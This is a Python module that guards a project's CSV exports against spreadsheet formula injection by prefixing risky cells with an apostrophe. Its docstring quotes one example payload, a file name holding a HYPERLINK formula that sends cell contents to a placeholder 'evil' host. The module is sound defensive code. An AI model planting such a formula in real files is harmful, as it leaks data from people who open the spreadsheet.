"""CSV that is safe to open in a spreadsheet: no cell of untrusted text runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with ``=``, ``+``, ``-``
or ``@`` as a formula (a leading tab or carriage return is trimmed first, so those count too).
Image names come from clients, so a zip entry named ``=HYPERLINK("http://evil/?"&A1,"x").png``
would run in the spreadsheet of whoever opens the export. Every CSV the project writes goes
through :func:`csv_writer`, which prefixes such text with an apostrophe (OWASP's advice for
"CSV injection"): spreadsheets show the text as it was, and a script can strip the ``'``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO
from typing import Any
from typing import Final

#: Leading characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_PREFIXES: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would evaluate: then ``'`` + text.

    Only text is touched: a number (a negative box coordinate) is data, written as a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell passes through :func:`spreadsheet_cell`."""

    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str]) -> SafeCsvWriter:
    """The one way to write CSV in this project (exports, reports): see the module's doc."""
    return SafeCsvWriter(stream)
